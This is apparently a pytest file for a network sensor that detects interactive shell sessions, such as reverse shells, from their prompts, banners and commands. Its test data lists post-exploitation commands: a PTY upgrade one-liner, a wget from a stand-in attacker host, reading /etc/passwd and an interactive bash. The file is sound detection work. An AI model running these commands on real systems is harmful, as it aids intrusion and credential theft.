from __future__ import annotations

import os
import socket
import subprocess
import sys

import pytest
from hypothesis import given

from sensor.enrich.protocols.shell import dissect
from tests.enrich.protocols.checks import ANY, at_every_length, mutated, sound
from tests.packaging.tools import tool

PROMPTS = [
    b"bash-5.2$ ",
    b"bash-5.2# id\nuid=0(root)\nbash-5.2# ",
    b"sh-5.1# ",
    b"root@host:/path# ",
    b"user@box-1.lab:~$ ls\r\n",
    b"[root@host dir]# ",
    b"\x1b[?2004hroot@host:/# ",
    b"\x1b]0;root@host: /\x07root@host:/# ",
    b"\x1b]0;title\x1b\\\x1b[01;32mroot@host:~$ ",
    b"\r\n\x1b[?2004h\x1b[0mbash-5.2$ ",
    "┌──(kali㉿kali)-[~]\n└─$ ".encode(),
    b"PS C:\\Users\\x> ",
]
BARE = [b"$ ", b"# ", b"/ # ", b">>> ", b"$ uid=0(root) gid=0(root)\n$ "]
BANNERS = [
    b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.",
    b"bash: cannot set terminal process group (1): Inappropriate ioctl for device\nbash: no job control in this ",
    b"bash: no job control in this shell\n",
    b"sh: 0: can't access tty; job control turned off\n$ ",
    b"/bin/sh: 0: can't access tty; job control turned off\n# ",
    b"\n\nBusyBox v1.36.1 (2023-07-17) built-in shell (ash)\n\n/ # ",
    b'Python 3.11.2 (main) [GCC 12.2.0] on linux\nType "help", "copyright" for more information.\n>>> ',
]
COMMANDS = [
    b"id\n",
    b"whoami\r\n",
    b"uname -a\n",
    b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n",
    b"export TERM=xterm\n",
    b"cat /etc/passwd | head\nid\n",
    b"script /dev/null -c bash\n",
    b"stty raw -echo; fg\n",
    b"wget http://evil.example/x\n",
    b"/bin/bash -i\n",
    b"ps aux\n",
]
SAMPLES = (*PROMPTS, *BARE, *BANNERS, *COMMANDS, b"uid=0(root) gid=0(root) groups=0(root)\n")


@pytest.mark.parametrize("data", PROMPTS)
def test_prompts(data: bytes) -> None:
    found = dissect(data, False)
    assert found is not None and found.certain
    assert (found.protocol, found.role, found.kind) == ("shell", "server", "prompt")


@pytest.mark.parametrize("data", BARE)
def test_bare_prompts_are_not_certain(data: bytes) -> None:
    found = dissect(data, False)
    assert found is not None and (found.kind, found.certain) == ("prompt", False)


@pytest.mark.parametrize("data", BANNERS)
def test_banners(data: bytes) -> None:
    found = dissect(data, False)
    assert found is not None and (found.role, found.kind, found.certain) == ("server", "banner", True)


@pytest.mark.parametrize("data", COMMANDS)
def test_commands(data: bytes) -> None:
    found = dissect(data, False)
    assert found is not None and (found.role, found.kind, found.certain) == ("client", "command", False)
    assert found.method == data.split()[0].decode()


def test_who_and_where() -> None:
    found = dissect(b"root@host:/path# ", False)
    assert found is not None and (found.user, found.server_name) == ("root", "host")


def test_the_output_of_id() -> None:
    found = dissect(b"uid=1000(me) gid=1000(me) groups=1000(me)\n", False)
    assert found is not None and (found.kind, found.certain) == ("output", False)


@pytest.mark.parametrize("sample", SAMPLES)
def test_cut_anywhere(sample: bytes) -> None:
    at_every_length(dissect, sample, False, "shell")


@pytest.mark.parametrize(
    "other",
    [
        b"",
        b"220 mail.example ESMTP Postfix\r\n",
        b"220 (vsFTPd 3.0.3)\r\n",
        b"+OK POP3 ready\r\n",
        b"* OK IMAP4rev1 ready\r\n",
        b"$5\r\nredis\r\n",
        b"$5 redis",
        b"$-1\r\n",
        b"# comment of a text file\nkey = value\n# another\n",
        b"#!/bin/sh\nid\n",
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n\r\nbash: no job control in this shell",
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"find me a flat in the city\n",
        b"which one is it\n",
        b"get key\r\n",
        b"PING\r\n",
        b"USER alice\r\n",
        b"me@example.com: hello\n",
        b"git@github.com:owner/name.git $ \n",
        b"bash-completion is installed\n",
        b"bash: the Bourne again shell\n",
        b"Python 3.11 is out\n",
        b"uid=x(root) gid=0",
        b"id",  # nobody has pressed enter yet
        b"id\x01\n",
        b"\x1b[31mred text",
        b"\x16\x03\x01" + bytes(60),
        b"\xff\xfd\x18\xff\xfd\x20",  # telnet negotiates
    ],
)
def test_near_misses(other: bytes) -> None:
    assert dissect(other, False) is None


def test_not_over_udp() -> None:
    assert dissect(b"root@host:/# ", True) is None


def test_sequences_without_end() -> None:
    for data in (b"\x1b[" + b"1;" * 2000, b"\x1b]0;" + b"x" * 4000, b"\x1b[m" * 1300, b"\x1b", b"\r\n" * 2000):
        assert dissect(data, False) is None


def said_by(command: list[str]) -> bytes:
    """What a program says first when a socket is its terminal, as in a reverse shell."""
    ours, theirs = socket.socketpair()
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "LC_ALL": "C"}
    ends = theirs.fileno()
    started = subprocess.Popen(command, stdin=ends, stdout=ends, stderr=ends, env=environment, start_new_session=True)
    with ours, started as process:
        theirs.close()
        ours.settimeout(20)
        ours.shutdown(socket.SHUT_WR)
        said = bytearray()
        while part := ours.recv(4096):
            said += part
        process.wait(20)
    return bytes(said)


def test_of_bash() -> None:
    found = dissect(said_by([tool("bash"), "--norc", "--noprofile", "-i"]), False)
    assert found is not None and found.certain and found.role == "server"


def test_of_dash() -> None:
    found = dissect(said_by([tool("dash"), "-i"]), False)
    assert found is not None and (found.kind, found.software) == ("banner", "dash")


def test_of_python() -> None:
    found = dissect(said_by([sys.executable, "-E", "-i"]), False)
    assert found is not None and (found.kind, found.software) == ("banner", "Python")
    assert found.version == sys.version.split()[0]


@given(ANY)
def test_any_bytes(data: bytes) -> None:
    sound(dissect(data, False), "shell")


@given(mutated(SAMPLES))
def test_mutations(data: bytes) -> None:
    sound(dissect(data, False), "shell")
